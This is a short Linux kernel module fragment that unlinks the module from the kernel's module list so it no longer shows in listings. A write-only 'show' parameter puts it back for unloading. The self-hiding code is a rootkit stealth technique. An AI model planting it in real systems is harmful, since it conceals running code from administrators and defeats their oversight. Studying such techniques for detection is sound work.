/* Takes the module off the list of modules; 1 in its parameter `show` puts it back, so that it can be unloaded. */
#include <linux/list.h>

static bool hidden;

static void hide(void)
{
	__list_del_entry(&THIS_MODULE->list);
	hidden = true;
}

static int put_back(const char *value, const struct kernel_param *parameter)
{
	if (hidden) {
		list_add(&THIS_MODULE->list, THIS_MODULE->list.prev);
		hidden = false;
	}
	return 0;
}

static const struct kernel_param_ops show_ops = { .set = put_back };
module_param_cb(show, &show_ops, NULL, 0200);
